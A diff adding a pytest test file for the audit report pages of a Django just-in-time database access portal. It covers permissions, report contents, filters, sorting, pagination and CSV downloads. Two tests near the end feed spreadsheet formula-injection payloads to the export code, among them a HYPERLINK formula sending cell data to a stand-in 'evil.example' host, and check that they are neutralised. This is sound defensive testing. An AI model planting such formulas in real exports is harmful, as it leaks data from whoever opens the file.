@@ -1,0 +1,657 @@
+"""The report pages under /audit/: what each shows, to whom, filtered and sorted, and their CSV downloads."""
+
+import csv
+import datetime
+import io
+import re
+from pathlib import Path
+
+import pytest
+from django.db import connection
+from django.http import StreamingHttpResponse
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+
+from audit import reports
+from audit.models import AuditEvent
+from grants import lifecycle, reconcile
+from grants.models import AccessProfile, AccessRequest, Grant, Policy, Target
+
+from .conftest import JUSTIFICATION, approved, ask, held, released
+
+ACCESS = reverse("audit:access")
+CURRENT = reverse("audit:current")
+DECISIONS = reverse("audit:decisions")
+BREAK_GLASS = reverse("audit:break_glass")
+INDEX = reverse("audit:index")
+ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
+EMERGENCY = "Production is down: the orders table is locked"
+
+
+def timeline(username):
+    return reverse("audit:timeline", args=[username])
+
+
+def text(response):
+    return response.content.decode()
+
+
+def records(response, section=0):
+    """Return the records on the page's table `section`, in the order shown."""
+    return [row.record for row in response.context["sections"][section].table.paginated_rows]
+
+
+def download(client, url, **params):
+    response = client.get(url, {**params, "format": "csv"})
+    assert response.status_code == 200, response.content
+    body = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(body)))
+
+
+def as_dicts(rows):
+    return [dict(zip(rows[0], row)) for row in rows[1:]]
+
+
+def today():
+    return timezone.localdate()
+
+
+@pytest.fixture
+def history(ana, bob, otto, marc, profile, quick_profile):
+    """A little of everything: held and released, held now, auto-approved, denied, break-glass, lapsed, cancelled."""
+    done = released(held(ana, profile, otto))  # approved by otto, provisioned, released, confirmed gone
+    live = held(bob, profile, marc)  # approved by marc, active now
+    auto = ask(ana, quick_profile, minutes=20)  # the policy's rule approves it
+    auto.refresh_from_db()
+    lifecycle.revoke_grant(auto.grant.pk, actor=ana, reason="released")  # released before it was provisioned
+    denied = ask(bob, quick_profile, minutes=90, justification="Need to rewrite the orders table by hand")
+    lifecycle.deny_request(denied.pk, actor=otto, comment="Use the migration pipeline")
+    emergency = ask(ana, quick_profile, minutes=60, justification=EMERGENCY, break_glass=True)
+    lapsed = ask(ana, profile, minutes=30)
+    lifecycle.lapse_stale_requests(now=timezone.now() + datetime.timedelta(days=2))
+    cancelled = ask(ana, profile, minutes=30)
+    lifecycle.cancel_request(cancelled.pk, actor=ana)
+    for obj in (live, emergency, lapsed, cancelled, denied):
+        obj.refresh_from_db()
+    return {"done": done, "live": live, "auto": auto, "denied": denied, "emergency": emergency, "lapsed": lapsed, "cancelled": cancelled}
+
+
+# Who sees what --------------------------------------------------------------
+
+PAGES = [ACCESS, CURRENT, DECISIONS, BREAK_GLASS]
+
+
+@pytest.mark.parametrize("url", PAGES + [timeline("bob")])
+def test_auditors_and_superusers_see_every_report(client, history, audra, root, url):
+    for user in (audra, root):
+        client.force_login(user)
+        assert client.get(url).status_code == 200
+
+
+@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, DECISIONS, timeline("bob")])
+def test_a_requester_gets_403_on_auditor_pages(client, history, ana, url):
+    client.force_login(ana)
+    response = client.get(url)
+    assert response.status_code == 403
+    assert client.get(url, {"format": "csv"}).status_code == 403
+    assert not AuditEvent.objects.filter(action="report.downloaded").exists()
+
+
+@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, DECISIONS, timeline("ana")])
+def test_an_outsider_gets_403_on_auditor_pages(client, history, eve, url):
+    client.force_login(eve)
+    assert client.get(url).status_code == 403
+
+
+@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, timeline("ana")])
+def test_an_approver_gets_403_beyond_their_decisions(client, history, otto, url):
+    client.force_login(otto)
+    assert client.get(url).status_code == 403
+
+
+@pytest.mark.parametrize("url", PAGES + [INDEX, timeline("ana")])
+def test_signed_out_visitors_are_sent_to_sign_in(client, db, url):
+    response = client.get(url)
+    assert response.status_code == 302
+    assert "/accounts/login/" in response["Location"]
+
+
+def test_a_requester_sees_only_their_own_history_and_a_filter_cannot_widen_it(client, history, ana, bob):
+    client.force_login(ana)
+    response = client.get(ACCESS, {"user": "bob"})
+    assert response.status_code == 200
+    assert {g.user_id for g in records(response)} == {ana.pk}
+    assert len(records(response)) == 3  # held and released, auto-approved, break-glass
+    assert 'name="user"' not in text(response)
+    assert "You see only your own access" in text(response)
+    rows = as_dicts(download(client, ACCESS, user="bob"))
+    assert {r["user"] for r in rows} == {"ana"}
+    event = AuditEvent.objects.get(action="report.downloaded")
+    assert event.details["scope"] == "own"
+
+
+def test_an_outsider_sees_an_empty_history_of_their_own(client, history, eve):
+    client.force_login(eve)
+    response = client.get(ACCESS)
+    assert response.status_code == 200
+    assert records(response) == []
+    assert "Nothing matches these filters." in text(response)
+
+
+def test_a_requester_sees_their_own_timeline(client, history, ana):
+    client.force_login(ana)
+    response = client.get(timeline("ana"))
+    assert response.status_code == 200
+    assert "Timeline of Ana (ana)" in text(response)
+
+
+def test_an_approver_sees_only_the_decisions_they_took_part_in(client, history, otto, marc):
+    client.force_login(otto)
+    response = client.get(DECISIONS, {"approver": "marc"})  # hidden for approvers: ignored
+    assert response.status_code == 200
+    assert "You see only the requests you decided" in text(response)
+    assert 'name="approver"' not in text(response)
+    shown = records(response, section=2)
+    assert {r.pk for r in shown} == {history["done"].request_id, history["denied"].pk}
+    assert [row["decided_by__username"] for row in records(response, section=1)] == ["otto"]
+    assert f'href="{timeline("ana")}"' not in text(response)  # approvers may not open others' timelines: no link
+    assert {r["requester"] for r in as_dicts(download(client, DECISIONS))} == {"ana", "bob"}
+    assert AuditEvent.objects.get(action="report.downloaded").details["scope"] == "decided"
+
+
+def test_an_approver_of_an_earlier_step_sees_the_request_a_colleague_finished(client, ana, otto, marc, target, groups):
+    two_steps = Policy.objects.create(name="two-steps", steps=[{"group": "db-approvers"}, {"group": "db-approvers"}])
+    p = AccessProfile.objects.create(name="appdb-admin", title="appdb admin", target=target, policy=two_steps,
+                                     scope={"roles": ["app_readwrite"]})
+    req = ask(ana, p)
+    lifecycle.approve_request(req.pk, actor=otto)
+    lifecycle.approve_request(req.pk, actor=marc)
+    client.force_login(otto)
+    response = client.get(DECISIONS)
+    assert [(r.pk, r.decided_by.username) for r in records(response, section=2)] == [(req.pk, "marc")]
+    # Per approver counts who closed a request; otto closed none.
+    assert records(response, section=1) == []
+
+
+def test_reports_link_and_index_show_what_the_user_may_open(client, history, ana, otto, audra):
+    client.force_login(ana)
+    page = text(client.get(INDEX))
+    assert f'href="{INDEX}">Reports</a>' in page
+    assert f'href="{ACCESS}"' in page and f'href="{timeline("ana")}"' in page
+    assert f'href="{CURRENT}"' not in page and f'href="{DECISIONS}"' not in page and f'href="{BREAK_GLASS}"' not in page
+    client.force_login(otto)
+    assert f'href="{DECISIONS}"' in text(client.get(INDEX))
+    client.force_login(audra)
+    page = text(client.get(INDEX))
+    for url in PAGES:
+        assert f'href="{url}"' in page
+    assert '<label for="timeline-username">' in page
+    response = client.get(reverse("audit:timeline_lookup"), {"username": "bob"})
+    assert response["Location"] == timeline("bob")
+
+
+def test_permission_helper_names_the_scope(history, ana, otto, audra, root, eve):
+    assert reports.scope_for(audra, "current") == reports.ALL
+    assert reports.scope_for(root, "break_glass") == reports.ALL
+    assert reports.scope_for(ana, "access") == reports.OWN
+    assert reports.scope_for(ana, "timeline", subject="ana") == reports.OWN
+    assert reports.scope_for(otto, "decisions") == reports.DECIDED
+    assert not reports.may_see(ana, "decisions")
+    assert not reports.may_see(eve, "decisions")
+    assert not reports.may_see(otto, "timeline", subject="ana")
+
+
+# What each report shows -------------------------------------------------------
+
+
+def test_access_history_has_one_row_per_grant_with_who_decided_and_how_it_ended(client, history, audra):
+    client.force_login(audra)
+    response = client.get(ACCESS)
+    grants = {g.pk: g for g in records(response)}
+    assert len(grants) == Grant.objects.count() == 4
+    done = grants[history["done"].pk]
+    assert done.user.username == "ana" and done.profile.name == "appdb-readonly"
+    assert done.request.decided_by.username == "otto" and done.decision == "approved"
+    assert done.ended_at == done.verified_at and done.actual_duration == done.verified_at - done.starts_at
+    assert done.outcome == "released"
+    auto = grants[history["auto"].grant.pk]
+    assert auto.decision == "auto_approved" and auto.request.auto_rule == "short-fix"
+    assert auto.outcome == "released" and auto.ended_at is None  # not yet confirmed gone
+    assert grants[history["emergency"].grant.pk].decision == "break_glass"
+    assert grants[history["live"].pk].outcome == "active"
+    page = text(response)
+    assert "rule: short-fix" in page and "Break-glass" in page and JUSTIFICATION in page
+    assert f'<a href="{timeline("ana")}">ana</a>' in page
+    assert "Released by the holder <small>(being removed)</small>" in page
+
+    rows = {int(r["grant_id"]): r for r in as_dicts(download(client, ACCESS))}
+    row = rows[history["done"].pk]
+    assert row["user"] == "ana" and row["user_email"] == "ana@example.com"
+    assert (row["target"], row["profile"]) == ("appdb-cluster", "appdb-readonly")
+    assert (row["decision"], row["decided_by"], row["auto_rule"]) == ("approved", "otto", "")
+    assert (row["justification"], row["ticket"]) == (JUSTIFICATION, "INC-4711")
+    assert (row["status"], row["end_reason"], row["ended_by"]) == ("revoked", "released", "ana")
+    assert row["ended_at"] == done.verified_at.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+    assert row["duration_seconds"] == str(int((done.verified_at - done.starts_at).total_seconds()))
+    assert rows[history["auto"].grant.pk]["auto_rule"] == "short-fix"
+    assert rows[history["emergency"].grant.pk]["decision"] == "break_glass"
+
+
+def test_current_access_lists_who_holds_what_now_with_time_left(client, history, audra):
+    client.force_login(audra)
+    response = client.get(CURRENT)
+    shown = records(response)
+    assert [g.pk for g in shown] == [history["live"].pk]
+    live = shown[0]
+    assert live.state == "active"
+    assert datetime.timedelta(minutes=40) < live.remaining <= datetime.timedelta(minutes=45)
+    assert "<td >Active</td>" in text(response) or ">Active<" in text(response)
+    [row] = as_dicts(download(client, CURRENT))
+    assert (row["user"], row["state"], row["external_ref"]) == ("bob", "active", f"jit_g{history['live'].pk}")
+    assert 40 * 60 < int(row["time_left_seconds"]) <= 45 * 60
+
+
+def test_current_access_keeps_access_past_expiry_until_the_target_is_clean(client, history, audra):
+    Grant.objects.filter(pk=history["live"].pk).update(expires_at=timezone.now() - datetime.timedelta(minutes=1))
+    client.force_login(audra)
+    [row] = as_dicts(download(client, CURRENT))
+    assert (row["state"], row["time_left_seconds"]) == ("past_expiry", "0")
+    lifecycle.begin_due_expiries(limit=10)
+    [row] = as_dicts(download(client, CURRENT))
+    assert (row["state"], row["end_reason"]) == ("ending", "expired")
+    lifecycle.complete_revocation(history["live"].pk)
+    assert as_dicts(download(client, CURRENT)) == []
+
+
+def test_decisions_report_time_to_decision_auto_share_denials_and_lapses(client, history, audra):
+    client.force_login(audra)
+    response = client.get(DECISIONS)
+    totals = response.context["totals"]
+    assert (totals["decided"], totals["approved"], totals["auto_approved"], totals["break_glass"], totals["denied"]) == (5, 2, 1, 1, 1)
+    assert (totals["lapsed"], totals["cancelled"]) == (1, 1)
+    assert totals["auto_share"] == pytest.approx(1 / 5)
+    page = text(response)
+    assert "<dt>Auto-approval share</dt><dd>20%</dd>" in page
+    by_profile = {row["profile__name"]: row for row in records(response, section=0)}
+    assert by_profile["appdb-readwrite"]["auto_approved"] == 1 and by_profile["appdb-readwrite"]["denied"] == 1
+    assert by_profile["appdb-readwrite"]["break_glass"] == 1 and by_profile["appdb-readwrite"]["auto_share"] == pytest.approx(1 / 3)
+    assert by_profile["appdb-readonly"]["approved"] == 2 and by_profile["appdb-readonly"]["lapsed"] == 1
+    assert by_profile["appdb-readonly"]["cancelled"] == 1
+    by_approver = {row["decided_by__username"]: row for row in records(response, section=1)}
+    assert (by_approver["otto"]["approved"], by_approver["otto"]["denied"]) == (1, 1)
+    assert (by_approver["marc"]["approved"], by_approver["marc"]["denied"]) == (1, 0)
+    assert by_approver["otto"]["avg_time_to_decision"] > datetime.timedelta(0)
+    decisions = {r.pk: r.decision for r in records(response, section=2)}
+    assert decisions[history["lapsed"].pk] == "lapsed" and decisions[history["cancelled"].pk] == "cancelled"
+    assert decisions[history["denied"].pk] == "denied" and decisions[history["auto"].pk] == "auto_approved"
+
+    rows = {r["request_id"]: r for r in as_dicts(download(client, DECISIONS))}
+    denied = rows[str(history["denied"].pk)]
+    assert (denied["decision"], denied["decided_by"], denied["comment"]) == ("denied", "otto", "Use the migration pipeline")
+    assert int(denied["time_to_decision_seconds"]) >= 0 and denied["requested_duration_seconds"] == "5400"
+    profiles = {r["profile"]: r for r in as_dicts(download(client, DECISIONS, table="decisions_by_profile"))}
+    assert profiles["appdb-readwrite"]["auto_share"] == "0.3333"
+    approvers = as_dicts(download(client, DECISIONS, table="decisions_by_approver"))
+    assert [r["approver"] for r in approvers] == ["marc", "otto"]
+
+
+def test_break_glass_page_shows_every_use_with_its_review_and_every_drift_finding(client, history, audra, otto, target, pg_cluster):
+    emergency = history["emergency"]
+    client.force_login(audra)
+    [use] = records(client.get(BREAK_GLASS))
+    assert (use.pk, use.review_state) == (emergency.pk, "open")
+    lifecycle.close_review(emergency.review.pk, actor=otto, comment="Checked the incident channel: real outage")
+
+    import psycopg
+    from psycopg import sql
+
+    with psycopg.connect(pg_cluster.admin_dsn, autocommit=True) as conn:
+        conn.execute(sql.SQL("CREATE ROLE {} LOGIN PASSWORD 'x'").format(sql.Identifier("jit_g999999")))
+    reconcile.reconcile_target(target)
+
+    response = client.get(BREAK_GLASS)
+    [use] = records(response, section=0)
+    assert use.review_state == "closed"
+    page = text(response)
+    assert "Checked the incident channel: real outage" in page and EMERGENCY in page
+    findings = {f.external_ref: f for f in records(response, section=1)}
+    assert findings["jit_g999999"].kind == "orphan"
+    [row] = as_dicts(download(client, BREAK_GLASS))
+    assert (row["user"], row["review_state"], row["reviewed_by"]) == ("ana", "closed", "otto")
+    assert row["justification"] == EMERGENCY
+    drift = {r["external_ref"]: r for r in as_dicts(download(client, BREAK_GLASS, table="drift"))}
+    assert (drift["jit_g999999"]["kind"], drift["jit_g999999"]["action"]) == ("orphan", "removed from the target")
+    assert ISO_UTC.match(drift["jit_g999999"]["found_at"])
+    assert client.get(BREAK_GLASS, {"format": "csv", "table": "nothing"}).status_code == 404
+
+
+def test_user_timeline_shows_what_they_requested_held_and_decided_in_time_order(client, history, audra, ana, otto):
+    client.force_login(audra)
+    response = client.get(timeline("ana"))
+    entries = records(response, section=0)
+    assert [e["when"] for e in entries] == sorted(e["when"] for e in entries)
+    done = history["done"]
+    story = [e["what"] for e in entries if e["grant_no"] == done.pk]
+    assert story == ["requested", "request approved", "access started", "access ending", "access ended"]
+    assert "requested (break-glass)" in [e["what"] for e in entries]
+    assert {e["what"] for e in entries if e["request_no"] == history["lapsed"].pk} == {"requested", "request lapsed"}
+    events = records(response, section=1)
+    assert {e.actor_id for e in events} == {ana.pk}
+    assert "request.submitted" in [e.action for e in events]
+
+    decided = [(e["what"], e["counterpart"]) for e in records(client.get(timeline("otto")), section=0)]
+    assert decided == [("approved a request", "ana"), ("denied a request", "bob")]
+    rows = as_dicts(download(client, timeline("ana")))
+    assert rows[0]["event"] == "requested" and all(ISO_UTC.match(r["at"]) for r in rows)
+    events_csv = as_dicts(download(client, timeline("ana"), table="timeline_events"))
+    assert {r["action"] for r in events_csv} >= {"request.submitted", "request.cancelled"}
+    assert AuditEvent.objects.filter(action="report.downloaded", details__filters__user="ana").count() == 2
+
+
+def test_an_unknown_user_has_no_timeline(client, audra):
+    client.force_login(audra)
+    assert client.get(timeline("nobody")).status_code == 404
+
+
+# Filters ------------------------------------------------------------------------
+
+
+@pytest.fixture
+def other_target(db):
+    # Never connected to: its grants are approved and released, not provisioned.
+    return Target.objects.create(name="billing-db", kind="postgres", secret_env="UNUSED_DSN")
+
+
+@pytest.fixture
+def billing(other_target, groups):
+    p = AccessProfile.objects.create(name="billing-readonly", title="billing read-only", target=other_target,
+                                     approver_group=groups["db-approvers"], scope={"roles": ["billing_ro"]})
+    p.requestable_by.add(groups["engineers"])
+    return p
+
+
+def test_access_history_filters_by_user_target_profile_and_outcome(client, history, billing, bob, otto, audra):
+    elsewhere = approved(bob, billing, otto)
+    client.force_login(audra)
+
+    def grant_ids(**params):
+        return {g.pk for g in records(client.get(ACCESS, params))}
+
+    assert grant_ids(user="bob") == {history["live"].pk, elsewhere.pk}
+    assert grant_ids(target="billing-db") == {elsewhere.pk}
+    assert grant_ids(profile="appdb-readwrite") == {history["auto"].grant.pk, history["emergency"].grant.pk}
+    assert grant_ids(outcome="released") == {history["done"].pk, history["auto"].grant.pk}
+    assert grant_ids(outcome="scheduled", user="bob") == {elsewhere.pk}
+    assert {r["grant_id"] for r in as_dicts(download(client, ACCESS, target="billing-db"))} == {str(elsewhere.pk)}
+    event = AuditEvent.objects.get(action="report.downloaded")
+    assert event.actor == audra
+    assert event.details == {"report": "access_history", "filters": {"target": "billing-db"}, "scope": "all"}
+
+
+def test_the_period_keeps_grants_asked_for_or_live_in_it(client, history, audra):
+    # Backdated so that the finished grant lies wholly in the past week.
+    done, week = history["done"], datetime.timedelta(days=7)
+    AccessRequest.objects.filter(pk=done.request_id).update(created_at=done.request.created_at - week)
+    Grant.objects.filter(pk=done.pk).update(starts_at=done.starts_at - week, revoked_at=done.revoked_at - week,
+                                            verified_at=done.verified_at - week)
+    client.force_login(audra)
+
+    def grant_ids(**params):
+        return {g.pk for g in records(client.get(ACCESS, params))}
+
+    everything = set(Grant.objects.values_list("pk", flat=True))
+    last_week = today() - datetime.timedelta(days=7)
+    assert grant_ids(since=last_week, until=last_week) == {done.pk}
+    assert grant_ids(since=today(), until=today()) == everything - {done.pk}
+    # Tomorrow nothing has been asked for yet, but what is still live (or not yet confirmed gone) counts.
+    tomorrow = today() + datetime.timedelta(days=1)
+    assert grant_ids(since=tomorrow) == {history["live"].pk, history["auto"].grant.pk, history["emergency"].grant.pk}
+    assert grant_ids(until=last_week - datetime.timedelta(days=1)) == set()
+
+
+def test_decisions_filter_by_period_requester_approver_and_outcome(client, history, audra):
+    client.force_login(audra)
+
+    def request_ids(**params):
+        return {r.pk for r in records(client.get(DECISIONS, params), section=2)}
+
+    assert request_ids(approver="otto") == {history["done"].request_id, history["denied"].pk}
+    assert request_ids(user="bob", outcome="denied") == {history["denied"].pk}
+    assert request_ids(outcome="auto_approved") == {history["auto"].pk}
+    assert request_ids(outcome="break_glass") == {history["emergency"].pk}
+    assert request_ids(until=today() - datetime.timedelta(days=1)) == set()
+    # The aggregates follow the filters.
+    response = client.get(DECISIONS, {"profile": "appdb-readwrite"})
+    assert [row["profile__name"] for row in records(response, section=0)] == ["appdb-readwrite"]
+    assert response.context["totals"]["decided"] == 3
+
+
+def test_break_glass_and_drift_filter_by_review_state_and_kind(client, history, audra):
+    client.force_login(audra)
+    assert len(records(client.get(BREAK_GLASS, {"review": "open"}), section=0)) == 1
+    assert records(client.get(BREAK_GLASS, {"review": "closed"}), section=0) == []
+    assert records(client.get(BREAK_GLASS, {"kind": "missing"}), section=1) == []
+
+
+def test_timeline_filters_by_period_and_profile(client, history, audra):
+    client.force_login(audra)
+    response = client.get(timeline("ana"), {"profile": "appdb-readwrite"})
+    assert {e["profile_name"] for e in records(response, section=0)} == {"appdb read-write"}
+    assert {e.details["profile"] for e in records(response, section=1)} == {"appdb-readwrite"}
+    yesterday = today() - datetime.timedelta(days=1)
+    response = client.get(timeline("ana"), {"until": yesterday})
+    assert records(response, section=0) == [] and records(response, section=1) == []
+
+
+def test_a_filter_it_cannot_read_shows_nothing_and_refuses_the_download(client, history, audra):
+    client.force_login(audra)
+    response = client.get(ACCESS, {"since": "last tuesday", "user": "ana"})
+    assert response.status_code == 200
+    assert records(response) == []
+    assert "From: Enter a valid date." in text(response)
+    assert client.get(ACCESS, {"since": "last tuesday", "format": "csv"}).status_code == 400
+    assert client.get(DECISIONS, {"outcome": "maybe", "format": "csv"}).status_code == 400
+    assert records(client.get(timeline("ana"), {"until": "soon"}), section=0) == []
+    assert not AuditEvent.objects.filter(action="report.downloaded").exists()
+
+
+def test_every_filter_control_has_a_visible_label(client, history, audra):
+    client.force_login(audra)
+    for url in PAGES + [timeline("ana")]:
+        page = text(client.get(url))
+        controls = re.findall(r'<(?:input|select)[^>]*\bid="([^"]+)"', page)
+        assert controls, url
+        for control in controls:
+            assert f'<label for="{control}">' in page, (url, control)
+
+
+# Sorting and pagination ------------------------------------------------------------
+
+
+def test_report_tables_sort_by_any_column_both_ways(client, history, audra):
+    client.force_login(audra)
+    users = [g.user.username for g in records(client.get(ACCESS, {"sort": "user"}))]
+    assert users == sorted(users) and users[0] == "ana" and users[-1] == "bob"
+    users = [g.user.username for g in records(client.get(ACCESS, {"sort": "-user"}))]
+    assert users == sorted(users, reverse=True)
+    when = [e["when"] for e in records(client.get(timeline("ana"), {"timeline-sort": "-when"}), section=0)]
+    assert when == sorted(when, reverse=True)
+    outcomes = [r.decision for r in records(client.get(DECISIONS, {"decisions-sort": "decision"}), section=2)]
+    assert outcomes == sorted(outcomes)
+    page = text(client.get(ACCESS))
+    assert 'href="?sort=requested_at"' in page  # a plain link: sorting works without JavaScript
+
+
+def test_report_pages_are_paginated_and_keep_their_filters(client, ana, otto, profile, audra):
+    for _ in range(55):
+        grant = approved(ana, profile, otto)
+        lifecycle.revoke_grant(grant.pk, actor=ana, reason="released")
+    client.force_login(audra)
+    response = client.get(ACCESS, {"user": "ana"})
+    assert len(records(response)) == 50
+    assert "user=ana" in text(response) and "page=2" in text(response)
+    assert len(records(client.get(ACCESS, {"user": "ana", "page": 2}))) == 5
+
+
+# CSV -------------------------------------------------------------------------------
+
+DOWNLOADS = [
+    (ACCESS, "access_history", reports.ACCESS_HISTORY),
+    (CURRENT, "current_access", reports.CURRENT_ACCESS),
+    (DECISIONS, "decisions", reports.DECISIONS),
+    (DECISIONS, "decisions_by_profile", reports.DECISIONS_BY_PROFILE),
+    (DECISIONS, "decisions_by_approver", reports.DECISIONS_BY_APPROVER),
+    (BREAK_GLASS, "break_glass", reports.BREAK_GLASS),
+    (BREAK_GLASS, "drift", reports.DRIFT),
+    ("/audit/users/ana/", "timeline", reports.TIMELINE),
+    ("/audit/users/ana/", "timeline_events", reports.TIMELINE_EVENTS),
+]
+
+
+@pytest.mark.parametrize("url, table, columns", DOWNLOADS)
+def test_every_report_downloads_as_a_streamed_csv_with_its_documented_headers(client, history, audra, url, table, columns):
+    client.force_login(audra)
+    with CaptureQueriesContext(connection) as queries:
+        response = client.get(url, {"format": "csv", "table": table})
+        assert isinstance(response, StreamingHttpResponse)
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        assert re.fullmatch(rf'attachment; filename="jitportal-{table.replace("_", "-")}-\d{{8}}T\d{{6}}Z\.csv"', response["Content-Disposition"])
+        # Recorded before a single row is read.
+        event = AuditEvent.objects.get(action="report.downloaded")
+        assert event.details["report"] == table and event.actor == audra
+        lines = iter(response.streaming_content)
+        before = len(queries)
+        header = next(lines)
+        assert len(queries) == before  # the header goes out before the rows are read
+    assert header.decode().rstrip("\r\n").split(",") == [c.header for c in columns]
+    assert len({c.header for c in columns}) == len(columns)
+    rows = list(csv.reader(io.StringIO(b"".join(lines).decode())))
+    assert all(len(r) == len(columns) for r in rows)
+
+
+def test_downloads_read_rows_through_a_chunked_iterator(client, history, audra, monkeypatch):
+    from django.db.models.query import QuerySet
+
+    seen = []
+    iterator = QuerySet.iterator
+
+    def spy(self, chunk_size=None):
+        seen.append(chunk_size)
+        return iterator(self, chunk_size=chunk_size)
+
+    monkeypatch.setattr(QuerySet, "iterator", spy)
+    client.force_login(audra)
+    download(client, ACCESS)
+    assert seen == [2000]
+
+
+@pytest.mark.parametrize("url, table, columns", DOWNLOADS)
+def test_the_readme_documents_every_csv_column(url, table, columns):
+    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
+    section = readme.split("## For auditors", 1)[1]
+    assert f"`{table}`" in section
+    for column in columns:
+        assert f"`{column.header}`" in section, column.header
+
+
+@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK(\"http://evil\")"])
+def test_cells_that_a_spreadsheet_would_run_are_neutralised(value):
+    assert reports.cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("plain", "plain"),
+    ("a=b", "a=b"),
+    ("", ""),
+    (None, ""),
+    (True, "true"),
+    (7, "7"),
+    (datetime.timedelta(minutes=90, microseconds=5), "5400"),
+    (datetime.datetime(2026, 11, 29, 4, 4, 5, 123456, tzinfo=datetime.timezone(datetime.timedelta(hours=1))), "2026-11-29T03:04:05Z"),
+    ({"b": 1, "a": "=x"}, '{"a":"=x","b":1}'),
+])
+def test_cells_are_plain_text_iso_times_and_whole_seconds(value, expected):
+    assert reports.cell(value) == expected
+
+
+def test_formula_injection_through_the_portal_is_neutralised_in_downloads(client, ana, otto, profile, audra):
+    req = ask(ana, profile, justification="=HYPERLINK(\"http://evil.example/\"&A1, \"click for details\")", ticket="@SUM(1+1)")
+    lifecycle.deny_request(req.pk, actor=otto, comment="-2+3 is not a reason")
+    client.force_login(audra)
+    [row] = as_dicts(download(client, DECISIONS))
+    assert row["comment"] == "'-2+3 is not a reason"
+    assert row["ticket"] == "'@SUM(1+1)"
+    [row] = as_dicts(download(client, timeline("ana")))[:1]
+    assert row["detail"].startswith("'=HYPERLINK(")
+
+
+def test_csv_times_are_utc_whatever_the_portal_time_zone(client, history, audra, settings):
+    settings.TIME_ZONE = "America/New_York"
+    client.force_login(audra)
+    rows = as_dicts(download(client, ACCESS))
+    done = history["done"]
+    row = next(r for r in rows if r["grant_id"] == str(done.pk))
+    assert row["started_at"] == done.starts_at.astimezone(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
+    for r in rows:
+        for name in ("requested_at", "decided_at", "started_at", "expires_at", "ended_at"):
+            assert r[name] == "" or ISO_UTC.match(r[name]), (name, r[name])
+
+
+def test_the_download_link_carries_the_filters(client, history, audra):
+    client.force_login(audra)
+    page = text(client.get(ACCESS, {"user": "bob", "outcome": "active", "sort": "user", "page": "1"}))
+    assert 'href="?user=bob&amp;outcome=active&amp;format=csv"' in page
+    page = text(client.get(BREAK_GLASS, {"target": "appdb-cluster"}))
+    assert 'href="?target=appdb-cluster&amp;format=csv&amp;table=drift"' in page
+
+
+# Query counts ----------------------------------------------------------------------
+
+
+def fill(n, *, profile, quick_profile, plain_profile, otto, groups, django_user_model, target):
+    """Bring the portal to `n` people who each hold a grant, used break-glass, had a request approved and left a drift finding."""
+    have = django_user_model.objects.filter(username__startswith="load").count()
+    for i in range(have, n):
+        user = django_user_model.objects.create_user(f"load{i:03}", f"load{i:03}@example.com")
+        user.groups.add(groups["engineers"], groups["oncall"])
+        grant = held(user, profile, otto)
+        ask(user, quick_profile, minutes=60, justification=EMERGENCY, break_glass=True)
+        approved(user, plain_profile, otto)
+        # The reconciler's own writer: a real "missing" finding needs a target broken by hand.
+        reconcile._finding(target, grant.external_ref, "missing", grant=grant, action="reported")
+
+
+@pytest.fixture
+def load(profile, quick_profile, otto, groups, django_user_model, target):
+    plain = AccessProfile.objects.create(name="appdb-plain", title="appdb plain", target=target, approver_group=groups["db-approvers"],
+                                         scope={"roles": ["app_readonly"]})
+    return lambda n: fill(n, profile=profile, quick_profile=quick_profile, plain_profile=plain, otto=otto, groups=groups,
+                          django_user_model=django_user_model, target=target)
+
+
+def shown(response):
+    return sum(len(section.table.paginated_rows) for section in response.context["sections"])
+
+
+@pytest.mark.parametrize("viewer, url", [
+    ("audra", ACCESS),
+    ("audra", CURRENT),
+    ("audra", DECISIONS),
+    ("otto", DECISIONS),
+    ("audra", BREAK_GLASS),
+    ("audra", "/audit/users/otto/"),
+    ("otto", "/audit/users/otto/"),
+])
+def test_queries_per_page_do_not_grow_with_the_rows(client, load, audra, otto, viewer, url, django_assert_num_queries):
+    client.force_login({"audra": audra, "otto": otto}[viewer])
+    load(5)
+    client.get(url)  # warm what is cached once per process (content types), not per row
+    with CaptureQueriesContext(connection) as few:
+        response = client.get(url)
+    assert response.status_code == 200
+    rows_few = shown(response)
+    load(50)
+    with django_assert_num_queries(len(few)):
+        response = client.get(url)
+    assert shown(response) > rows_few
